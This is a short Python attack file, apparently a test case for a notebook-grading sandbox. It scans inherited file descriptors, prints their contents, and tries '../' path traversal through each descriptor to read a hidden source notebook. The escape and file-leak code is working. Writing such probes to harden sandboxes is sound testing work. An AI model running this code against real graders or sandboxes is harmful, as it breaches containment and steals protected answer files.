# /// attack
# tries = "Looks through the files that it was started with, and climbs from its folders."
# points = 0
# ///
# %% before count
import os

wanted = f"{bait['course']}/source/{bait['slug']}/{bait['slug']}.ipynb"
for name in os.listdir("/proc/self/fd"):
    if int(name) < 3:
        continue
    try:
        print(os.pread(int(name), 100_000, 0))
    except OSError:
        pass
    try:
        found = os.open("../" * 12 + wanted[1:], os.O_RDONLY, dir_fd=int(name))
        print(os.read(found, 1_000_000).decode())
    except OSError:
        pass
